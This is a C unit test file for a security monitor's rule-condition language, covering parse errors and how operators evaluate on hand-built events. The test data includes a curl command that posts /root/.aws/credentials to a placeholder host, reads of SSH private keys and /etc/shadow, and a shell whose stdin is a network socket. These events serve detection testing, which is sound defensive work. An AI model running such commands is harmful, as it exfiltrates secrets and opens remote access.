// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* Rule conditions: every parse error with its message and offset, then
 * every operator on every field type against hand-built events, '~'
 * literals, macros, parentheses and precedence. The environment is a fake
 * one with a few lists and macros. */
#include <pwd.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "cond.h"
#include "evtest.h"
#include "home.h"
#include "profile.h"

#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))

/* ---------------------------------------------------------------- env */

static const char *const shells[] = { "sh", "bash", "dash" };
static const char *const ports[] = { "22", "80" };
static const char *const nothing[] = { NULL };
static struct cond *is_root;	/* macro is_root: proc.uid == 0 */
static struct cond *is_bash;	/* macro is_bash: proc.name in shells */
static struct cond *deep[2];	/* deep63, deep64: nested that deep */

static const struct cond *env_macro(void *ctx, const char *name, size_t len,
				    struct cond_err *err)
{
	if (bytes__is(name, len, "is_root"))
		return is_root;
	if (bytes__is(name, len, "is_bash"))
		return is_bash;
	if (bytes__is(name, len, "deep63"))
		return deep[0];
	if (bytes__is(name, len, "deep64"))
		return deep[1];
	if (bytes__is(name, len, "broken")) {
		snprintf(err->msg, sizeof(err->msg),
			 "macro 'broken' is invalid");
		return NULL;
	}
	return NULL;
}

static const char *const *env_list(void *ctx, const char *name, size_t len,
				   size_t *n)
{
	if (bytes__is(name, len, "shells")) {
		*n = ARRAY_SIZE(shells);
		return shells;
	}
	if (bytes__is(name, len, "ports")) {
		*n = ARRAY_SIZE(ports);
		return ports;
	}
	if (bytes__is(name, len, "empty")) {	/* defined, no items */
		*n = 0;
		return nothing;
	}
	return NULL;
}

/* File sets keys (bit 0), shadow (1) and cloud (3); bit 2 has no name. */
static const char *const fileset_names[VIGIL_MAX_FILESETS] = {
	"keys", "shadow", NULL, "cloud",
};

static bool env_fileset(void *ctx, const char *name, size_t len)
{
	for (size_t i = 0; i < VIGIL_MAX_FILESETS; i++)
		if (fileset_names[i] && bytes__is(name, len, fileset_names[i]))
			return true;
	return false;
}

static const struct cond_env env = { .macro = env_macro, .list = env_list,
				     .fileset = env_fileset };

static struct cond *parse(const char *text)
{
	struct cond_err err;
	struct cond *c = cond__parse(text, strlen(text), &env, &err);

	if (!c)
		print_error("cond__parse(\"%s\"): %zu: %s\n", text, err.offset,
			    err.msg);
	assert_non_null(c);
	return c;
}

/* open.write inside n - 1 parentheses: nested n deep. */
static struct cond *parse_nested(int n)
{
	char text[256] = "";

	for (int i = 1; i < n; i++)
		strcat(text, "(");
	strcat(text, "open.write");
	for (int i = 1; i < n; i++)
		strcat(text, ")");
	return parse(text);
}

static int setup(void **state)
{
	is_root = parse("proc.uid == 0");
	is_bash = parse("proc.name in shells");
	deep[0] = parse_nested(63);
	deep[1] = parse_nested(64);
	return 0;
}

static int teardown(void **state)
{
	cond__free(is_root);
	cond__free(is_bash);
	cond__free(deep[0]);
	cond__free(deep[1]);
	home__flush();
	return 0;
}

/* ---------------------------------------------------------------- errors */

/* text (its length from the literal, so NUL bytes count) must fail at
 * offset with msg. */
#define PARSE_ERROR(text, offset, msg) \
	parse_error(text, sizeof(text) - 1, offset, msg, __LINE__)

static void parse_error(const char *text, size_t len, size_t offset,
			const char *msg, int line)
{
	struct cond_err err;
	struct cond *c = cond__parse(text, len, &env, &err);

	if (c)
		cond__free(c);
	_assert_true(!c, "cond__parse failed", __FILE__, line);
	_assert_string_equal(err.msg, msg, __FILE__, line);
	_assert_int_equal(err.offset, offset, __FILE__, line);
}

static void test_error_lexer(void **state)
{
	PARSE_ERROR("open.path == \"abc", 13, "unterminated string");
	PARSE_ERROR("open.path == 'a\\'", 13, "unterminated string");
	PARSE_ERROR("proc.pid = 1", 9, "unknown operator '=' (use == or !=)");
	PARSE_ERROR("proc.pid ! 1", 9, "unknown operator '!' (use == or !=)");
	PARSE_ERROR("proc.pid !", 9, "unknown operator '!' (use == or !=)");
	PARSE_ERROR("proc.pid == 1\0", 13, "NUL byte in condition");
	PARSE_ERROR("\0", 0, "NUL byte in condition");
	PARSE_ERROR("proc.pid\0== 1", 8, "NUL byte in condition");
	PARSE_ERROR("open.path == \"a\0b\"", 13, "NUL byte in a string");
	/* A number, an address or a bool may not hide a NUL either. */
	PARSE_ERROR("proc.pid == \"1\0\"", 12, "NUL byte in a string");
	PARSE_ERROR("connect.addr == \"1.2.3.4\0x\"", 16,
		    "NUL byte in a string");
}

static void test_error_names(void **state)
{
	PARSE_ERROR("proc.foo == 1", 0, "unknown field or macro 'proc.foo'");
	PARSE_ERROR("proc.pid == 1 and nosuch", 18,
		    "unknown field or macro 'nosuch'");
	PARSE_ERROR("proc.pid == 1 or or", 17, "unknown field or macro 'or'");
	/* The macro's own error, at the name. */
	PARSE_ERROR("proc.pid == 1 and broken", 18,
		    "macro 'broken' is invalid");
	PARSE_ERROR("proc.pid", 8, "expected an operator after 'proc.pid'");
	PARSE_ERROR("proc.pid 1", 9, "expected an operator after 'proc.pid'");
	PARSE_ERROR("open.path (x)", 10,
		    "expected an operator after 'open.path'");
	PARSE_ERROR("open.path is /x", 10,
		    "expected an operator after 'open.path'");
}

static void test_error_operator_type(void **state)
{
	PARSE_ERROR("proc.pid startswith 1", 9,
		    "operator 'startswith' does not apply to proc.pid");
	PARSE_ERROR("proc.pid regex 1", 9,
		    "operator 'regex' does not apply to proc.pid");
	PARSE_ERROR("open.path > 3", 10,
		    "operator '>' does not apply to open.path");
	PARSE_ERROR("exec.argv <= 3", 10,
		    "operator '<=' does not apply to exec.argv");
	PARSE_ERROR("connect.addr glob x", 13,
		    "operator 'glob' does not apply to connect.addr");
	PARSE_ERROR("connect.addr >= 1.2.3.4", 13,
		    "operator '>=' does not apply to connect.addr");
	PARSE_ERROR("open.write contains x", 11,
		    "operator 'contains' does not apply to open.write");
	PARSE_ERROR("open.write in (true)", 11,
		    "operator 'in' does not apply to open.write");
	PARSE_ERROR("open.write < 1", 11,
		    "operator '<' does not apply to open.write");
	/* fields of known values: equality only */
	PARSE_ERROR("open.fileset glob \"k*\"", 13,
		    "operator 'glob' does not apply to open.fileset");
	PARSE_ERROR("exec.fileset contains e", 13,
		    "operator 'contains' does not apply to exec.fileset");
	PARSE_ERROR("exec.stdin regex inet", 11,
		    "operator 'regex' does not apply to exec.stdin");
	PARSE_ERROR("exec.stderr > 1", 12,
		    "operator '>' does not apply to exec.stderr");
	PARSE_ERROR("budget.port glob 4*", 12,
		    "operator 'glob' does not apply to budget.port");
	PARSE_ERROR("event.kernel_killed in (true)", 20,
		    "operator 'in' does not apply to event.kernel_killed");
}

static void test_error_literals(void **state)
{
	PARSE_ERROR("proc.pid == abc", 12,
		    "proc.pid is a number: 'abc' is not one");
	PARSE_ERROR("proc.pid == 1.5", 12,
		    "proc.pid is a number: '1.5' is not one");
	PARSE_ERROR("proc.pid < 99999999999999999999", 11,
		    "proc.pid is a number: '99999999999999999999' is not one");
	PARSE_ERROR("proc.pid == 5XB", 12,
		    "proc.pid is a number: '5XB' is not one");
	PARSE_ERROR("proc.pid == \"\"", 12,
		    "proc.pid is a number: '' is not one");
	PARSE_ERROR("proc.pid in (1, x)", 16,
		    "proc.pid is a number: 'x' is not one");
	/* A list's items are checked at the list's name. */
	PARSE_ERROR("proc.pid in shells", 12,
		    "proc.pid is a number: 'sh' is not one");
	PARSE_ERROR("proc.pid in (1, shells)", 16,
		    "proc.pid is a number: 'sh' is not one");
	PARSE_ERROR("connect.addr == 1.2.3", 16, "connect.addr is an address: "
		    "'1.2.3' is neither an IP address nor a CIDR");
	PARSE_ERROR("connect.addr == 10.0.0.0/33", 16, "connect.addr is an "
		    "address: '10.0.0.0/33' is neither an IP address nor a "
		    "CIDR");
	PARSE_ERROR("connect.addr != ::1/129", 16, "connect.addr is an "
		    "address: '::1/129' is neither an IP address nor a CIDR");
	PARSE_ERROR("flow.addr in (1.2.3.4, x)", 23, "flow.addr is an "
		    "address: 'x' is neither an IP address nor a CIDR");
	PARSE_ERROR("open.write == yes", 14,
		    "open.write is true or false, not 'yes'");
	PARSE_ERROR("open.write != 1", 14,
		    "open.write is true or false, not '1'");
	PARSE_ERROR("proc.name regex \"a(\"", 16,
		    "bad regex at character 2: missing closing parenthesis");
	PARSE_ERROR("proc.name regex \"[z-a]\"", 16, "bad regex at character "
		    "3: range out of order in character class");
	PARSE_ERROR("proc.pid ==", 11, "expected a value after '=='");
	PARSE_ERROR("proc.pid ==  )", 13, "expected a value after '=='");
	PARSE_ERROR("proc.name startswith (x)", 21,
		    "expected a value after 'startswith'");
	PARSE_ERROR("open.fileset == key", 16, "undefined fileset 'key'");
	PARSE_ERROR("exec.fileset in (keys, \"\", shadow)", 23,
		    "undefined fileset ''");
	/* a list's items are checked at its name */
	PARSE_ERROR("open.fileset in shells", 16, "undefined fileset 'sh'");
	PARSE_ERROR("exec.stdout == socket", 15, "exec.stdout is an fd type "
		    "(none, file, dir, tty, chr, pipe, unix, inet, sock or "
		    "other), not 'socket'");
	PARSE_ERROR("exec.stdin in (tty, \"\")", 20, "exec.stdin is an fd "
		    "type (none, file, dir, tty, chr, pipe, unix, inet, sock or "
		    "other), not ''");
	PARSE_ERROR("budget.addr == x", 15, "budget.addr is an address: 'x' "
		    "is neither an IP address nor a CIDR");
	PARSE_ERROR("budget.limit >= 1XB", 16,
		    "budget.limit is a number: '1XB' is not one");
	/* an environment without file sets has none to name */
	{
		const struct cond_env bare = { .macro = env_macro };
		struct cond_err err;

		assert_null(cond__parse("open.fileset == keys", 20, &bare,
					&err));
		assert_string_equal(err.msg, "undefined fileset 'keys'");
		assert_int_equal(err.offset, 16);
	}
}

static void test_error_lists(void **state)
{
	PARSE_ERROR("proc.name in ()", 14,
		    "empty list: the test can never be true");
	PARSE_ERROR("proc.name in ( )", 15,
		    "empty list: the test can never be true");
	/* A list with no items is an empty list, not an unknown name or a
	 * literal. */
	PARSE_ERROR("proc.name in empty", 13,
		    "empty list: the test can never be true");
	PARSE_ERROR("proc.pid in empty", 12,
		    "empty list: the test can never be true");
	PARSE_ERROR("proc.name in (empty)", 19,
		    "empty list: the test can never be true");
	PARSE_ERROR("proc.name in nolist", 13, "undefined list 'nolist'");
	PARSE_ERROR("proc.name in \"x\"", 13,
		    "expected '(' or a list name after 'in'");
	PARSE_ERROR("proc.name in", 12,
		    "expected '(' or a list name after 'in'");
	PARSE_ERROR("proc.name in (a b)", 16, "expected ',' or ')' in a list");
	PARSE_ERROR("proc.name in (a", 15, "expected ',' or ')' in a list");
	PARSE_ERROR("proc.name in (a,", 16, "expected a value");
	PARSE_ERROR("proc.name in (a,,b)", 16, "expected a value");
	PARSE_ERROR("proc.name in (a, (b))", 17, "expected a value");
}

static void test_error_structure(void **state)
{
	PARSE_ERROR("(proc.pid == 1", 14,
		    "expected ')' to close the '(' at character 1");
	PARSE_ERROR("proc.uid == 0 and (proc.pid == 1 or (proc.pid == 2)", 51,
		    "expected ')' to close the '(' at character 19");
	PARSE_ERROR("proc.pid == 1 proc.uid == 0", 14, "unexpected 'proc.uid' "
		    "after a complete condition (missing 'and'/'or'?)");
	PARSE_ERROR("proc.pid == 1 \"x\"", 14, "unexpected '\"' after a "
		    "complete condition (missing 'and'/'or'?)");
	PARSE_ERROR("proc.pid == 1 )", 14, "unexpected ')' after a complete "
		    "condition (missing 'and'/'or'?)");
	PARSE_ERROR("proc.pid == 1, 2", 13, "unexpected ',' after a complete "
		    "condition (missing 'and'/'or'?)");
	PARSE_ERROR("open.write == true == false", 19, "unexpected '==' after "
		    "a complete condition (missing 'and'/'or'?)");
	PARSE_ERROR("", 0, "condition ends where a test was expected");
	PARSE_ERROR("   ", 3, "condition ends where a test was expected");
	PARSE_ERROR("not", 3, "condition ends where a test was expected");
	PARSE_ERROR("proc.pid == 1 and", 17,
		    "condition ends where a test was expected");
	PARSE_ERROR("(", 1, "condition ends where a test was expected");
	PARSE_ERROR("proc.pid == 1 and )", 18,
		    "expected a field, a macro, 'not' or '('");
	PARSE_ERROR("== 1", 0, "expected a field, a macro, 'not' or '('");
	PARSE_ERROR("\"proc.pid\" == 1", 0,
		    "expected a field, a macro, 'not' or '('");
	PARSE_ERROR("()", 1, "expected a field, a macro, 'not' or '('");
}

/* COND_MAX_DEPTH counts every 'not', '(' and the test itself. */
static void test_error_depth(void **state)
{
	char text[512];
	struct cond_err err;
	struct cond *c;
	size_t n;

	for (n = 0; n < COND_MAX_DEPTH - 1; n++)
		text[n] = '(';
	strcpy(text + n, "open.write");
	memset(text + strlen(text), ')', n);
	text[2 * n + 10] = '\0';
	c = cond__parse(text, strlen(text), &env, &err);
	assert_non_null(c);
	cond__free(c);

	memmove(text + 1, text, strlen(text) + 1);
	strcat(text, ")");
	assert_null(cond__parse(text, strlen(text), &env, &err));
	assert_string_equal(err.msg, "condition nested deeper than 64");
	assert_int_equal(err.offset, COND_MAX_DEPTH);

	text[0] = '\0';
	for (n = 0; n < COND_MAX_DEPTH; n++)
		strcat(text, "not ");
	strcat(text, "open.write");
	assert_null(cond__parse(text, strlen(text), &env, &err));
	assert_string_equal(err.msg, "condition nested deeper than 64");
	assert_int_equal(err.offset, 4 * COND_MAX_DEPTH);

	/* macros count: a tree's depth includes the macros it uses */
	assert_int_equal(deep[0]->depth, 63);
	assert_int_equal(deep[1]->depth, 64);
	c = parse("deep63");
	assert_int_equal(c->depth, 64);
	cond__free(c);
	c = parse("is_root and not is_bash");
	assert_int_equal(c->depth, 3);
	cond__free(c);
	PARSE_ERROR("deep64", 0, "condition nested deeper than 64");
	PARSE_ERROR("(deep63)", 1, "condition nested deeper than 64");
	PARSE_ERROR("open.write or not deep63", 18,
		    "condition nested deeper than 64");
}

/* Errors past the first do not overwrite it, and nothing leaks when the
 * failure comes halfway through a tree (ASan checks). */
static void test_error_first_wins(void **state)
{
	PARSE_ERROR("proc.pid == x and proc.uid == y", 12,
		    "proc.pid is a number: 'x' is not one");
	PARSE_ERROR("(proc.name in (a, b, c, d, e, f, g, h) and proc.pid == x)",
		    55, "proc.pid is a number: 'x' is not one");
	PARSE_ERROR("proc.name regex \"^a\" and not (open.path == \"x", 43,
		    "unterminated string");
}

/* ---------------------------------------------------------------- eval */

static const struct profile *cur_profile;
static uint64_t cur_taints;
static const char *const taint_names[] = { "secrets-read", "net" };

static bool eval_on(const char *text, const struct tev *t)
{
	char scratch[VIGIL_PATH_MAX + 2];
	struct eval e = {
		.f = { .ev = &t->ev, .profile = cur_profile,
		       .taints = cur_taints, .taint_names = taint_names },
		.scratch = scratch,
	};
	struct cond *c = parse(text);
	bool r = cond__eval(c, &e);

	cond__free(c);
	return r;
}

struct case_ {
	const char *cond;
	bool want;
};

#define CHECK_CASES(t, cases) check_cases(t, cases, ARRAY_SIZE(cases), __LINE__)

static void check_cases(const struct tev *t, const struct case_ *cases,
			size_t n, int line)
{
	for (size_t i = 0; i < n; i++) {
		bool got = eval_on(cases[i].cond, t);

		if (got != cases[i].want)
			print_error("line %d: '%s' is %s\n", line,
				    cases[i].cond, got ? "true" : "false");
		_assert_true(got == cases[i].want, cases[i].cond, __FILE__,
			     line);
	}
}

static void test_eval_strings(void **state)
{
	static const struct case_ cases[] = {
		{ "open.path == /root/.ssh/id_rsa", true },
		{ "open.path == \"/root/.ssh/id_rsa\"", true },
		{ "open.path == /root/.ssh/id_rs", false },
		{ "open.path == /root/.ssh/id_rsa2", false },
		{ "open.path != /root/.ssh/id_rsa", false },
		{ "open.path != /etc/passwd", true },
		{ "open.path in (/etc/shadow, /root/.ssh/id_rsa)", true },
		{ "open.path in (/etc/shadow, /etc/passwd)", false },
		/* 8 items or more: a hashed set */
		{ "open.path in (a, b, c, d, e, f, g, /root/.ssh/id_rsa)",
		  true },
		{ "open.path in (a, b, c, d, e, f, g, /root/.ssh/id_rs)",
		  false },
		{ "open.path in (a, b, c, d, e, f, g, h, i, ~/.ssh/id_rsa)",
		  true },
		{ "open.path in (a, b, c, d, e, f, g, h, i, ~/.ssh/id_dsa)",
		  false },
		{ "open.path glob /root/.ssh/id_*", true },
		{ "open.path glob \"/root/*/id_rsa\"", true },
		{ "open.path glob \"/root/.ssh/id_?sa\"", true },
		{ "open.path glob \"/root/.ssh/id_[rd]sa\"", true },
		{ "open.path glob \"*.pub\"", false },
		{ "open.path glob /root", false },
		{ "open.path startswith /root/", true },
		{ "open.path startswith /root/.ssh/id_rsa", true },
		{ "open.path startswith /root/.ssh/id_rsa2", false },
		{ "open.path startswith /home", false },
		{ "open.path startswith \"\"", true },
		{ "open.path endswith id_rsa", true },
		{ "open.path endswith /root/.ssh/id_rsa", true },
		{ "open.path endswith .pub", false },
		{ "open.path endswith x/root/.ssh/id_rsa", false },
		{ "open.path contains .ssh", true },
		{ "open.path contains ssh/x", false },
		{ "open.path contains \"\"", true },
		{ "open.path regex \"^/root/\\.ssh/id_[a-z]+$\"", true },
		{ "open.path regex \"id_dsa\"", false },
		{ "open.path regex \"^\\.ssh\"", false },
		{ "open.name == id_rsa", true },
		{ "open.name in shells", false },
		{ "open.arg == /root/.ssh/id_rsa", true },
		{ "event.type == open", true },
		{ "event.type == exec", false },
		{ "sandbox.id == sb-7", true },
		{ "sandbox.id != sb-7", false },
	};
	struct tev t;

	tev__open(&t, 1, "/root/.ssh/id_rsa", 01 | 0100);
	CHECK_CASES(&t, cases);
}

/* On list fields a test holds when any element passes; '!=' when none
 * equals. */
static void test_eval_lists(void **state)
{
	static const struct case_ open_cases[] = {
		{ "open.flags == O_WRONLY", true },
		{ "open.flags == O_CREAT", true },
		{ "open.flags == O_RDONLY", false },
		{ "open.flags != O_RDONLY", true },
		{ "open.flags != O_CREAT", false },
		{ "open.flags in (O_TRUNC, O_CREAT)", true },
		{ "open.flags in (O_TRUNC, O_APPEND)", false },
		{ "open.flags startswith O_CR", true },
		{ "open.flags endswith ONLY", true },
		{ "open.flags contains TRUNC", false },
		{ "open.flags glob \"O_*ONLY\"", true },
		{ "open.flags regex \"^O_(TRUNC|CREAT)$\"", true },
	};
	static const struct case_ exec_cases[] = {
		{ "exec.argv == -s", true },
		{ "exec.argv == curl", true },
		{ "exec.argv == -v", false },
		{ "exec.argv != -s", false },
		{ "exec.argv != -v", true },
		{ "exec.argv in (-v, -s)", true },
		{ "exec.argv in (a, b, c, d, e, f, g, --data)", true },
		{ "exec.argv in (a, b, c, d, e, f, g, --dat)", false },
		{ "exec.argv contains .aws", true },
		{ "exec.argv startswith \"http:\"", true },
		{ "exec.argv endswith credentials", true },
		{ "exec.argv endswith curl/", false },
		{ "exec.argv glob \"@*\"", true },
		{ "exec.argv regex \"^--d\"", true },
		{ "exec.argv regex \"^-v$\"", false },
		{ "exec.cmdline == "
		  "\"curl -s http://x --data @/root/.aws/credentials\"", true },
		{ "exec.cmdline contains \"-s http\"", true },
		{ "exec.cmdline glob \"curl *--data*\"", true },
		{ "exec.argc == 5", true },
		{ "exec.ret == 0", true },
		{ "exec.file == /usr/bin/curl", true },
		{ "exec.name == curl", true },
		{ "proc.exe == /usr/bin/curl", true },
		{ "proc.name == curl", true },
		{ "ancestors.exe == /bin/bash", true },
		{ "ancestors.exe == /usr/bin/tini", true },
		{ "ancestors.exe == /usr/bin/curl", false },
		{ "ancestors.name in (tini)", true },
		{ "ancestors.name != bash", false },
		{ "ancestors.name != zsh", true },
		{ "ancestors.exe glob \"/usr/*\"", true },
		{ "ancestors.name in shells", true },
		{ "parent.exe == /bin/bash", true },
		{ "parent.name == bash", true },
		{ "is_bash", false },
	};
	static const struct case_ empty_cases[] = {
		/* no elements: no test holds, and none equals */
		{ "exec.argv == \"\"", false },
		{ "exec.argv != x", true },
		{ "exec.argv contains \"\"", false },
		{ "exec.argc == 0", true },
		{ "exec.cmdline == \"\"", true },
	};
	static const struct case_ taint_cases[] = {
		{ "sandbox.taint == secrets-read", true },
		{ "sandbox.taint == net", false },
		{ "sandbox.taint != net", true },
		{ "sandbox.taint != secrets-read", false },
	};
	static const struct case_ untainted_cases[] = {
		{ "sandbox.taint == secrets-read", false },
		{ "sandbox.taint != net", true },
	};
	struct tev t;

	tev__open(&t, 1, "/tmp/x", 01 | 0100);
	CHECK_CASES(&t, open_cases);
	tev__exec(&t, 1, "/usr/bin/curl",
		  "curl|-s|http://x|--data|@/root/.aws/credentials");
	CHECK_CASES(&t, exec_cases);
	tev__exec(&t, 1, "/usr/bin/true", "");
	CHECK_CASES(&t, empty_cases);
	cur_taints = 1;
	CHECK_CASES(&t, taint_cases);
	cur_taints = 0;
	CHECK_CASES(&t, untainted_cases);
}

/* File set fields list the names of a record's bits; bits without a
 * name, and records without names, list nothing. */
static void test_eval_filesets(void **state)
{
	static const struct case_ open_cases[] = {
		{ "open.fileset == keys", true },
		{ "open.fileset == cloud", true },
		{ "open.fileset == shadow", false },
		{ "open.fileset != shadow", true },
		{ "open.fileset != keys", false },
		{ "open.fileset in (shadow, cloud)", true },
		{ "open.fileset in (shadow)", false },
	};
	static const struct case_ none_cases[] = {
		{ "open.fileset == keys", false },
		{ "open.fileset != keys", true },
		{ "open.fileset in (keys, shadow, cloud)", false },
	};
	static const struct case_ exec_cases[] = {
		{ "exec.fileset == shadow", true },
		{ "exec.fileset in (keys, cloud)", false },
	};
	struct tev t;

	tev__open(&t, 1, "/root/.ssh/id_rsa", 0);
	t.ev.fileset_names = fileset_names;
	t.ev.open.filesets = 1 | 4 | 8;
	CHECK_CASES(&t, open_cases);
	t.ev.open.filesets = 4;		/* unnamed only */
	CHECK_CASES(&t, none_cases);
	t.ev.open.filesets = 1;
	t.ev.fileset_names = NULL;	/* no rules to name them */
	CHECK_CASES(&t, none_cases);
	tev__exec(&t, 1, "/usr/bin/id", "id");
	t.ev.fileset_names = fileset_names;
	t.ev.exec.filesets = 2;
	CHECK_CASES(&t, exec_cases);
}

/* exec's standard fds, and the kernel's kill of an opener or exec'er. */
static void test_eval_stdio_killed(void **state)
{
	static const struct case_ shell_cases[] = {
		{ "exec.stdin == inet", true },
		{ "exec.stdin in (unix, inet)", true },
		{ "exec.stdout == pipe", true },
		{ "exec.stdout != tty", true },
		{ "exec.stderr == none", true },
		{ "exec.stderr in (tty, chr)", false },
		{ "event.kernel_killed", false },
		{ "event.kernel_killed == false", true },
	};
	static const struct case_ killed_cases[] = {
		{ "event.kernel_killed", true },
		{ "event.kernel_killed == true", true },
		{ "not event.kernel_killed", false },
	};
	struct tev t;

	tev__exec(&t, 1, "/bin/sh", "sh|-i");
	t.ev.exec.stdio[0] = VIGIL_FD_INET;
	t.ev.exec.stdio[1] = VIGIL_FD_PIPE;
	t.ev.exec.stdio[2] = VIGIL_FD_NONE;
	CHECK_CASES(&t, shell_cases);
	/* a type the kernel adds later reads as "other" */
	t.ev.exec.stdio[0] = 200;
	assert_true(eval_on("exec.stdin == other", &t));
	t.hdr.flags = VIGIL_F_KILLED;
	CHECK_CASES(&t, killed_cases);
	tev__open(&t, 1, "/etc/shadow", 0);
	t.hdr.flags = VIGIL_F_KILLED | VIGIL_F_DELETED;
	CHECK_CASES(&t, killed_cases);
	tev__open(&t, 1, "/etc/shadow", 0);
	t.ev.hdr = NULL;	/* no header: no kill reported */
	assert_true(eval_on("event.kernel_killed == false", &t));
}

/* The egress budget record: no process, a destination and amounts. */
static void test_eval_budget(void **state)
{
	static const struct case_ cases[] = {
		{ "budget.addr == 203.0.113.0/24", true },
		{ "budget.addr in (10.0.0.0/8, ::ffff:203.0.113.9)", true },
		{ "budget.addr != 203.0.113.9", false },
		{ "budget.port == 443", true },
		{ "budget.proto == tcp", true },
		{ "budget.limit == 10MiB", true },
		{ "budget.spent > 10MiB", false },
		{ "budget.spent >= 10000000", true },
		{ "event.type == budget", true },
		{ "sandbox.id == sb-7", true },
		{ "proc.pid == 100", false },	/* not a budget field */
		{ "not proc.pid == 100", true },
	};
	struct tev t;

	tev__budget(&t, 1, "203.0.113.9", 443, 10485760, 10000000);
	CHECK_CASES(&t, cases);
	tev__budget(&t, 1, "2001:db8::9", 53, 1, 1);
	t.ev.budget.proto = 17;
	assert_true(eval_on("budget.addr == 2001:db8::/32", &t));
	assert_true(eval_on("budget.proto == udp", &t));
}

static void test_eval_numbers(void **state)
{
	static const struct case_ cases[] = {
		{ "open.ret == 3", true },
		{ "open.ret != 3", false },
		{ "open.ret != 4", true },
		{ "open.ret < 3", false },
		{ "open.ret < 4", true },
		{ "open.ret <= 3", true },
		{ "open.ret <= 2", false },
		{ "open.ret > 2", true },
		{ "open.ret > 3", false },
		{ "open.ret >= 3", true },
		{ "open.ret >= 4", false },
		{ "open.ret > -1", true },
		{ "open.ret in (1, 3)", true },
		{ "open.ret in (1, 2, 4, 5, 6, 7, 8, 9, 10)", false },
		{ "open.ret in (1, 2, 4, 5, 6, 7, 8, 9, 3)", true },
		{ "open.ret == \"3\"", true },
		{ "proc.pid == 100", true },
		{ "proc.ppid == 99", true },
		{ "proc.uid == 0", true },
		{ "proc.gid == 0", true },
		{ "proc.pid in ports", false },
		{ "open.ino == 5k", true },
		{ "open.ino == 5000", true },
		{ "open.ino < 5KiB", true },
		{ "open.dev == 0", true },
	};
	static const struct case_ flow_cases[] = {
		{ "flow.bytes > 4999", true },
		{ "flow.bytes >= 5k", true },
		{ "flow.bytes > 5k", false },
		{ "flow.bytes > 4KiB", true },
		{ "flow.bytes < 1MiB", true },
		{ "flow.packets == 6", true },
		{ "flow.port == 443", true },
		{ "flow.proto == tcp", true },
		{ "flow.addr == 1.2.3.0/24", true },
		{ "event.type == flow", true },
		{ "sandbox.id == sb-7", true },
		/* process fields: not carried by flows */
		{ "proc.pid == 0", false },
		{ "not proc.pid == 0", true },
		{ "proc.pid != 0", false },
		{ "proc.name == \"\"", false },
	};
	static const struct case_ exit_cases[] = {
		{ "exit.code == 3", true },
		{ "exit.signal == 0", true },
	};
	static const struct case_ killed_cases[] = {
		{ "exit.code == 0", true },
		{ "exit.signal == 11", true },
	};
	struct tev t;

	tev__open(&t, 1, "/etc/hosts", 0);
	t.ev.open.ino = 5000;
	CHECK_CASES(&t, cases);
	tev__flow(&t, 1, "1.2.3.4", 443, 5000);
	CHECK_CASES(&t, flow_cases);
	tev__init(&t, EVENT_EXIT, 1);
	t.ev.exit_code = 3 << 8;
	CHECK_CASES(&t, exit_cases);
	t.ev.exit_code = 0x80 | 11;
	CHECK_CASES(&t, killed_cases);
	tev__init(&t, EVENT_FORK, 1);
	t.ev.child_pid = 101;
	assert_true(eval_on("fork.child_pid == 101", &t));
	assert_false(eval_on("fork.child_pid > 101", &t));
}

static void test_eval_bools(void **state)
{
	static const struct case_ writing[] = {
		{ "open.write", true },
		{ "open.write == true", true },
		{ "open.write == false", false },
		{ "open.write != true", false },
		{ "open.write != false", true },
		{ "not open.write", false },
	};
	static const struct case_ reading[] = {
		{ "open.write", false },
		{ "open.write == false", true },
		{ "not open.write", true },
	};
	struct dest dests[1];
	char *exes[] = { (char *)"/usr/bin/*" };
	struct profile p = { .name = (char *)"agent", .dests = dests,
			     .nr_dests = 1, .exes = exes, .nr_exes = 1 };
	struct tev t;

	tev__open(&t, 1, "/tmp/x", 01);
	CHECK_CASES(&t, writing);
	tev__open(&t, 1, "/tmp/x", 02000);	/* O_APPEND */
	CHECK_CASES(&t, writing);
	tev__open(&t, 1, "/tmp/x", 0);
	CHECK_CASES(&t, reading);

	assert_int_equal(dest__parse("10.0.0.0/8:443", &dests[0]), 0);
	tev__exec(&t, 1, "/usr/bin/curl", "curl");
	/* Without a profile nothing is judged: both forms are false. */
	assert_false(eval_on("exec.allowed", &t));
	assert_false(eval_on("exec.allowed == false", &t));
	cur_profile = &p;
	assert_true(eval_on("exec.allowed", &t));
	assert_true(eval_on("sandbox.profile == agent", &t));
	tev__exec(&t, 1, "/bin/curl", "curl");
	assert_true(eval_on("exec.allowed == false", &t));
	tev__connect(&t, 1, "10.9.8.7", 443);
	assert_true(eval_on("connect.allowed", &t));
	tev__connect(&t, 1, "10.9.8.7", 80);
	assert_true(eval_on("connect.allowed == false", &t));
	tev__connect(&t, 1, "/run/docker.sock", 0);
	/* a unix socket is local: not judged */
	assert_false(eval_on("connect.allowed", &t));
	assert_false(eval_on("connect.allowed == false", &t));
	tev__flow(&t, 1, "11.0.0.1", 443, 1);
	assert_true(eval_on("flow.allowed == false", &t));
	tev__flow(&t, 1, "10.0.0.1", 443, 1);
	assert_true(eval_on("flow.allowed", &t));
	cur_profile = NULL;
}

static void test_eval_addrs(void **state)
{
	static const struct case_ v4[] = {
		{ "connect.addr == 10.1.2.3", true },
		{ "connect.addr == 10.1.2.4", false },
		{ "connect.addr != 10.1.2.4", true },
		{ "connect.addr == 10.0.0.0/8", true },
		{ "connect.addr != 10.0.0.0/8", false },
		{ "connect.addr == 11.0.0.0/8", false },
		{ "connect.addr == 10.1.0.0/17", true },
		{ "connect.addr == 10.1.128.0/17", false },
		{ "connect.addr == 10.1.2.3/32", true },
		{ "connect.addr == 10.1.2.2/31", true },
		{ "connect.addr == 10.1.2.4/31", false },
		{ "connect.addr == 0.0.0.0/0", true },
		{ "connect.addr == ::/0", false },
		{ "connect.addr == ::ffff:10.1.2.3", true },
		{ "connect.addr in (192.168.0.0/16, 10.0.0.0/8)", true },
		{ "connect.addr in (192.168.0.0/16, ::1)", false },
		{ "connect.port == 443", true },
		{ "connect.family == inet", true },
		{ "connect.proto == tcp", true },
		{ "connect.ret == 0", true },
		{ "connect.path == \"\"", false },
	};
	static const struct case_ v6[] = {
		{ "connect.addr == 2001:db8::1", true },
		{ "connect.addr == 2001:db8::/32", true },
		{ "connect.addr == 2001:db8::1/128", true },
		{ "connect.addr == 2001:db8::/33", true },
		{ "connect.addr == 2001:db8:8000::/33", false },
		{ "connect.addr == 2001:db9::/32", false },
